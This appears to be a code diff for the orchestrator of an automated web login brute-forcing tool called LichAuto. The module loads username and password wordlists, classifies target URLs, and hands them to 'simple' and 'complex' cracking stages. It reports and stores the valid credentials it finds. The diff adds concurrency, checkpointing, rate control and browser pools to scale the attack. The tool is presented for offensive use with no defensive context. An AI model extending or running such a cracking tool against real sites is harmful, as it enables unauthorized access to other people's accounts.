@@ -1,17 +1,33 @@
 import os
 import json
 import threading
+import queue
 from datetime import datetime
 import config
 import classifier
 import cracker_simple
 import cracker_complex
-from utils import logger, load_file
+import browser_pool
+from resource_router import router
+from checkpoint import checkpoints
+from results_store import results_store
+from metrics import metrics
+import rate_control
+import form_reset
+from tracing import tracer, slow_traces
+from utils import logger, load_file, attempt_sampler
+from candidates import load_wordlist, close_wordlists
 
 class LichAuto:
     def __init__(self):
         os.makedirs(config.LISTDIR_PATH, exist_ok=True)
         self._ensure_default_files()
+        self._wordlists = {}
+        self._retired = []
+        self._runs = 0
+        self._lists_lock = threading.Lock()
+        self._active_targets = set()
+        self._targets_lock = threading.Lock()
 
     def _ensure_default_files(self):
         if not os.path.exists(config.USERNAME_FILE):
@@ -21,80 +37,218 @@ class LichAuto:
             with open(config.PASSWORD_FILE, 'w', encoding='utf-8') as f:
                 f.write('\n'.join(config.DEFAULT_PASSWORDS) + '\n')
 
-    def run(self, urls):
+    def _wordlist(self, path, default):
+        try:
+            stat = os.stat(path)
+            key = (stat.st_size, stat.st_mtime_ns)
+        except OSError:
+            key = None
+        cached = self._wordlists.get(path)
+        if cached and key is not None and cached[0] == key:
+            return cached[1]
+        if cached:
+            self._retired.append(cached[1])
+        words = load_wordlist(path, default)
+        self._wordlists[path] = (key, words)
+        return words
+
+    def load_wordlists(self):
+        """Cached wordlists, reloaded when the file changed. A replaced
+        list is only closed once no run is using it."""
+        with self._lists_lock:
+            lists = (
+                self._wordlist(config.USERNAME_FILE, config.DEFAULT_USERNAMES),
+                self._wordlist(config.PASSWORD_FILE, config.DEFAULT_PASSWORDS)
+            )
+            self._close_retired()
+        return lists
+
+    def _close_retired(self):
+        if not self._runs:
+            close_wordlists(*self._retired)
+            self._retired = []
+
+    def _acquire_wordlists(self):
+        with self._lists_lock:
+            self._runs += 1
+        return self.load_wordlists()
+
+    def _release_wordlists(self):
+        with self._lists_lock:
+            self._runs -= 1
+            self._close_retired()
+
+    def _claim(self, url, claimed):
+        with self._targets_lock:
+            if url in self._active_targets:
+                return False
+            self._active_targets.add(url)
+        claimed.add(url)
+        return True
+
+    def _release_targets(self, claimed):
+        with self._targets_lock:
+            self._active_targets -= claimed
+
+    def process_stats(self):
+        """Stats kept for the whole process. With concurrent jobs they mix
+        every job, so they are only part of unmanaged run results."""
+        return {
+            "browser_pool": browser_pool.pool_stats(),
+            "resource_router": router.stats() if config.RESOURCE_ROUTING else None,
+            "metrics": metrics.summary()
+        }
+
+    def close(self):
+        with self._lists_lock:
+            close_wordlists(*self._retired, *(words for _, words in self._wordlists.values()))
+            self._retired = []
+            self._wordlists = {}
+
+    def reset_stop(self):
+        classifier.STOP_FLAG = False
+        cracker_simple.STOP_FLAG = False
+        cracker_complex.STOP_FLAG = False
+
+    def run(self, urls, token=None, stages=None, results=None, on_classified=None):
         if isinstance(urls, str):
             urls = [urls]
         
         logger.info(f"Starting LichAuto for {len(urls)} URLs...")
         
-        with open(config.URL_LIST_FILE, 'w', encoding='utf-8') as f:
-            f.write('\n'.join(urls) + '\n')
+        managed = token is not None
+        if config.PERSIST_LISTS and not managed:
+            with open(config.URL_LIST_FILE, 'w', encoding='utf-8') as f:
+                f.write('\n'.join(urls) + '\n')
         
-        logger.info("Step 1: Classifying targets...")
-        classifier.STOP_FLAG = False
-        classify_result = classifier.classify_targets()
+        if not managed:
+            self.reset_stop()
+            metrics.reset()
+            attempt_sampler.reset()
+            rate_control.reset()
+            form_reset.reset()
+            tracer.reset()
+            slow_traces.reset()
+            cracker_complex.reset_outcome_stats()
+            router.reset_stats()
+        if config.TRACE_ENABLED:
+            tracer.start()
+        metrics.serve()
+        usernames, passwords = self._acquire_wordlists()
+        claimed = set()
+        try:
+            stages = {} if stages is None else stages
+            results = [] if results is None else results
+            handoff = queue.Queue()
+        
+            def dispatch():
+                while True:
+                    item = handoff.get()
+                    if item is None:
+                        break
+                    kind, url = item
+                    if not self._claim(url, claimed):
+                        logger.warning(f"[{url}] Already being cracked by another job, skipping")
+                        continue
+                    try:
+                        stage = stages.get(kind)
+                        if stage is None:
+                            if kind == "simple":
+                                logger.info("Starting simple crack stage...")
+                                stage = cracker_simple.start_simple_crack(usernames, passwords, token=token, results=results)
+                            else:
+                                logger.info("Starting complex crack stage...")
+                                stage = cracker_complex.start_complex_crack(usernames, passwords, token=token, results=results)
+                            stages[kind] = stage
+                        stage.submit(url)
+                    except Exception as e:
+                        logger.error(f"[{url}] Cannot hand off to {kind} stage: {e}")
         
-        all_results = []
+            def on_result(kind, entry):
+                if on_classified is not None:
+                    on_classified(kind, entry)
+                if kind in ("simple", "complex"):
+                    handoff.put((kind, entry))
         
-        simple_targets = classify_result.get("simple", [])
-        if simple_targets:
-            logger.info(f"Step 2: Running simple crack for {len(simple_targets)} targets...")
-            cracker_simple.STOP_FLAG = False
-            simple_results = cracker_simple.run_simple_crack()
-            all_results.extend(simple_results)
+            dispatcher = threading.Thread(target=dispatch, name="lichauto-dispatch", daemon=True)
+            dispatcher.start()
+            logger.info("Classifying targets and cracking as they are classified...")
+            try:
+                classify_result = classifier.classify_targets(urls, on_result=on_result, persist=False if managed else None, token=token)
+            finally:
+                handoff.put(None)
+                dispatcher.join()
         
-        complex_targets = classify_result.get("complex", [])
-        if complex_targets:
-            logger.info(f"Step 3: Running complex crack for {len(complex_targets)} targets...")
-            cracker_complex.STOP_FLAG = False
-            complex_results = cracker_complex.run_complex_crack()
-            all_results.extend(complex_results)
+            for kind in ("simple", "complex"):
+                if kind in stages:
+                    stages[kind].finish()
+        finally:
+            self._release_targets(claimed)
+            self._release_wordlists()
+        all_results = list(results)
+        complex_targets = "complex" in stages
+        autoscale = {kind: stage.autoscaler.stats() for kind, stage in stages.items() if getattr(stage, "autoscaler", None)}
         
         logger.info(f"Done! Found {len(all_results)} valid credentials.")
+        if config.METRICS_ENABLED and config.METRICS_FILE:
+            try:
+                metrics.write_textfile()
+            except OSError as e:
+                logger.warning(f"Cannot write metrics file: {e}")
+        trace = None
+        if tracer.enabled and config.TRACE_FILE:
+            try:
+                trace = {"file": tracer.export(), "slowest_attempts": slow_traces.kept()}
+            except OSError as e:
+                logger.warning(f"Cannot write trace file: {e}")
         
-        return {
+        scoped = lambda stats: {url: value for url, value in stats.items() if url in claimed}
+        result = {
             "success": True,
+            "cancelled": managed and token.is_set(),
             "classification": classify_result,
             "results": all_results,
-            "count": len(all_results)
+            "count": len(all_results),
+            "outcome_latency": scoped(cracker_complex.get_outcome_stats()),
+            "autoscaler": autoscale or None,
+            "rates": scoped(rate_control.settled_rates()),
+            "form_reset": scoped(form_reset.reset_stats()) if complex_targets else None
         }
+        if not managed:
+            result.update(self.process_stats(), trace=trace)
+        return result
 
-    def get_results(self):
-        results = []
-        if os.path.exists(config.RESULTS_FILE):
-            with open(config.RESULTS_FILE, 'r', encoding='utf-8') as f:
-                for line in f:
-                    line = line.strip()
-                    if line:
-                        parts = line.split('|')
-                        if len(parts) >= 2:
-                            url = parts[0].strip()
-                            cred = parts[1].strip()
-                            if ':' in cred:
-                                username, password = cred.split(':', 1)
-                                results.append({
-                                    "url": url,
-                                    "username": username,
-                                    "password": password
-                                })
-        return {"results": results, "count": len(results)}
+    def get_results(self, url=None, host=None, username=None, since=None, until=None, limit=None, offset=0):
+        results = results_store.query(url=url, host=host, username=username, since=since, until=until, limit=limit, offset=offset)
+        total = results_store.count(url=url, host=host, username=username, since=since, until=until)
+        return {"results": results, "count": len(results), "total": total}
 
     def clear_results(self):
         if os.path.exists(config.RESULTS_FILE):
             os.remove(config.RESULTS_FILE)
+        results_store.clear()
         logger.info("Results cleared")
         return {"success": True}
 
+    def clear_progress(self):
+        checkpoints.reset()
+        logger.info("Checkpoint progress cleared")
+        return {"success": True}
+
     def stop(self):
         classifier.STOP_FLAG = True
         cracker_simple.STOP_FLAG = True
         cracker_complex.STOP_FLAG = True
+        checkpoints.flush()
         logger.info("Stop signal sent")
         return {"success": True}
 
 def auto_crack(url):
     lich = LichAuto()
-    return lich.run(url)
+    try:
+        return lich.run(url)
+    finally:
+        lich.close()
 
 if __name__ == '__main__':
     import sys